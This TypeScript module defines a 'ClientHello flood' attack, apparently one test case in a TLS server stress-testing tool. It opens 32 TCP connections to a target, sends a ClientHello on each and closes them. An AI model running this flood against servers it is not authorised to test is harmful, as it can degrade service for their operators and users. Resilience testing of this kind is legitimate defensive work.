// The first message of a handshake, and the end of the connection.

import type { Attack } from '../attack.ts'
import { clientHello } from '../wire/client-hello.ts'
import { attackConnections } from '../wire/connections.ts'

export const attack: Attack = {
  reference: 'ClientHello flood',
  does: 'sends a ClientHello on 32 connections at once, and closes them',
  who: ['unknown'],
  answers: [],
  run: async (target, signal) => {
    const hello = await clientHello(target.host)
    await attackConnections(target, signal, { connections: 32, transport: 'tcp' }, (wire) => {
      const pieces = [hello]
      return { next: () => pieces.shift(), receive: () => wire.close() }
    })
  },
}
